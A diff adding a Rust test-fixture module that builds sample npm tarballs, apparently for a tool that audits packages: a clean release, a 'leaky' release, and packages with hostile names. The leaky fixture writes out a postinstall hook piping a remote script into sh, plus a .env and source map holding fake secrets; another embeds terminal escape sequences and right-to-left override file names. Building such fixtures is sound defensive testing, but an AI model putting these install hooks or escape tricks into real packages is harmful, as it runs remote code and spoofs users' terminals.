@@ -1,0 +1,159 @@
+//! Generated package fixtures for tests, examples and benchmarks: never binary files in git.
+//!
+//! Shared by `#[path]` inclusion, so it uses only crates every target has (`tar`, `flate2`).
+#![allow(dead_code)]
+
+use std::io::Write as _;
+use std::path::{Path, PathBuf};
+
+/// An npm-style `.tgz` of `files` (path bytes, content) under `package/`.
+pub fn tgz(files: &[(&[u8], &[u8])]) -> Vec<u8> {
+    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut b = tar::Builder::new(gz);
+    for (path, data) in files {
+        let mut h = tar::Header::new_gnu();
+        let mut full = b"package/".to_vec();
+        full.extend_from_slice(path);
+        {
+            // Written raw: tar's path setters refuse some of the hostile names we need.
+            let name = &mut h.as_old_mut().name;
+            let n = full.len().min(name.len());
+            name[..n].copy_from_slice(&full[..n]);
+        }
+        if full.len() > 100 {
+            h.set_path(String::from_utf8_lossy(&full).as_ref())
+                .expect("long fixture paths are UTF-8");
+        }
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        h.set_mtime(1_700_000_000);
+        h.set_cksum();
+        b.append(&h, *data).expect("writing to memory");
+    }
+    b.into_inner().expect("tar").finish().expect("gzip")
+}
+
+/// Writes bytes to `dir/name` and returns the path.
+pub fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
+    let p = dir.join(name);
+    let mut f = std::fs::File::create(&p).expect("create fixture");
+    f.write_all(bytes).expect("write fixture");
+    p
+}
+
+/// A token-shaped string built at run time, so no scanner mistakes this source for a leak.
+pub fn fake_token(prefix: &str, len: usize) -> String {
+    let body: String = "Q7fZ2kP9wX4mL8rT1vB6nJ3cH5yD0sGa"
+        .chars()
+        .cycle()
+        .take(len)
+        .collect();
+    format!("{prefix}{body}")
+}
+
+const CLI_V1: &str = "#!/usr/bin/env node\n'use strict';\nconst { greet } = require('./lib/util');\nconsole.log(greet(process.argv[2] || 'world'));\n";
+const UTIL: &str = "'use strict';\nexports.greet = (name) => `hello, ${name}`;\n";
+const README: &str = "# demo-cli\n\nSays hello.\n\n```sh\nnpx demo-cli you\n```\n";
+
+/// `demo-cli@1.0.0`: a clean release.
+pub fn demo_clean() -> Vec<u8> {
+    let pkg = r#"{"name":"demo-cli","version":"1.0.0","bin":{"demo-cli":"dist/cli.js"},"files":["dist"],"dependencies":{"kleur":"^4.1.5"}}"#;
+    tgz(&[
+        (b"package.json", pkg.as_bytes()),
+        (b"README.md", README.as_bytes()),
+        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
+        (b"CHANGELOG.md", b"# 1.0.0\n\n- first release\n"),
+        (b"dist/cli.js", CLI_V1.as_bytes()),
+        (b"dist/lib/util.js", UTIL.as_bytes()),
+    ])
+}
+
+/// The TypeScript sources the leaky release embeds in its source map.
+pub fn leaked_sources() -> Vec<(&'static str, String)> {
+    let token = fake_token("ghp_", 36);
+    vec![
+        ("webpack://demo-cli/./src/cli.ts", "import { greet } from './lib/util';\nimport { login } from './auth/token';\n\nasync function main(argv: string[]): Promise<void> {\n  await login();\n  console.log(greet(argv[2] ?? 'world'));\n}\n\nmain(process.argv);\n".to_owned()),
+        ("webpack://demo-cli/./src/auth/token.ts", format!("// Internal: service account for the release bot.\nconst GITHUB_TOKEN = '{token}';\nconst API = 'https://api.internal.example.com/v2';\n\nexport async function login(): Promise<string> {{\n  const res = await fetch(`${{API}}/session`, {{\n    headers: {{ authorization: `token ${{GITHUB_TOKEN}}` }},\n  }});\n  return res.text();\n}}\n")),
+        ("webpack://demo-cli/./src/lib/util.ts", "export const greet = (name: string): string => `hello, ${name}`;\n".to_owned()),
+    ]
+}
+
+/// `demo-cli@1.1.0`: leaks its sources through `dist/cli.js.map`, ships a `.env`, adds a
+/// dependency with a postinstall script, and drops the changelog.
+pub fn demo_leaky() -> Vec<u8> {
+    let pkg = r#"{"name":"demo-cli","version":"1.1.0","bin":{"demo-cli":"dist/cli.js"},"scripts":{"postinstall":"node scripts/setup.js"},"dependencies":{"kleur":"^4.1.5","left-pad-ng":"git+https://github.com/example/left-pad-ng.git"}}"#;
+    let srcs = leaked_sources();
+    let names: Vec<String> = srcs
+        .iter()
+        .map(|(n, _)| serde_json::to_string(n).expect("str"))
+        .collect();
+    let contents: Vec<String> = srcs
+        .iter()
+        .map(|(_, c)| serde_json::to_string(c).expect("str"))
+        .collect();
+    let map = format!(
+        r#"{{"version":3,"file":"cli.js","sources":[{}],"sourcesContent":[{}],"names":[],"mappings":"AAAA,SAAS"}}"#,
+        names.join(","),
+        contents.join(",")
+    );
+    let cli = "#!/usr/bin/env node\n\"use strict\";var e=require(\"./lib/util\");async function n(){await fetch(\"https://api.internal.example.com/v2/session\")}n().then(()=>console.log(e.greet(process.argv[2]||\"world\")));\n//# sourceMappingURL=cli.js.map\n";
+    let env = format!(
+        "# local settings\nDATABASE_URL=postgres://release:hunter2@db.internal.example.com:5432/app\nSTRIPE_SECRET_KEY={}\nDEBUG=demo:*\n",
+        fake_token("sk_live_", 24)
+    );
+    let setup = "// runs on every install\nconst { execSync } = require('child_process');\nexecSync('curl -s https://telemetry.example.com/i | sh');\n";
+    tgz(&[
+        (b"package.json", pkg.as_bytes()),
+        (b"README.md", README.as_bytes()),
+        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
+        (b"dist/cli.js", cli.as_bytes()),
+        (b"dist/cli.js.map", map.as_bytes()),
+        (b"dist/lib/util.js", UTIL.as_bytes()),
+        (b".env", env.as_bytes()),
+        (b"scripts/setup.js", setup.as_bytes()),
+    ])
+}
+
+/// A package whose names and contents carry terminal escape sequences.
+pub fn hostile() -> Vec<u8> {
+    let content = "line one\n\x1b[2J\x1b[Hcleared?\n\x1b]52;c;cHduZWQ=\x07clipboard?\n\x1b]0;pwned\x07title?\nabc\u{202e}txt.exe\nend of evil\n";
+    let padding = "// padding so this file sorts first\n".repeat(40);
+    let body = format!("{content}{padding}");
+    tgz(&[
+        (b"package.json", br#"{"name":"evil","version":"6.6.6"}"#),
+        ("evil\x1b[2J.js".as_bytes(), body.as_bytes()),
+        ("clip\x1b]52;c;cHduZWQ=\x07.js".as_bytes(), b"x\n"),
+        ("title\x1b]0;pwned\x07.js".as_bytes(), b"y\n"),
+        ("gnp\u{202e}js.png".as_bytes(), b"z\n"),
+    ])
+}
+
+/// A package of `n` small files in nested folders.
+pub fn many_files(n: usize) -> Vec<u8> {
+    let names: Vec<String> = (0..n)
+        .map(|i| format!("lib/m{}/d{}/f{i}.js", i % 100, (i / 100) % 10))
+        .collect();
+    let files: Vec<(&[u8], &[u8])> = std::iter::once((
+        &b"package.json"[..],
+        &br#"{"name":"many","version":"1.0.0"}"#[..],
+    ))
+    .chain(
+        names
+            .iter()
+            .map(|n| (n.as_bytes(), &b"module.exports = 1;\n"[..])),
+    )
+    .collect();
+    tgz(&files)
+}
+
+/// A package with one minified file of `size` bytes on a single line.
+pub fn one_long_line(size: usize) -> Vec<u8> {
+    let unit = "var a=function(b){return b*2};";
+    let mut s: String = unit.repeat(size / unit.len() + 1);
+    s.truncate(size);
+    tgz(&[
+        (b"package.json", br#"{"name":"minified","version":"1.0.0"}"#),
+        (b"dist/bundle.min.js", s.as_bytes()),
+    ])
+}
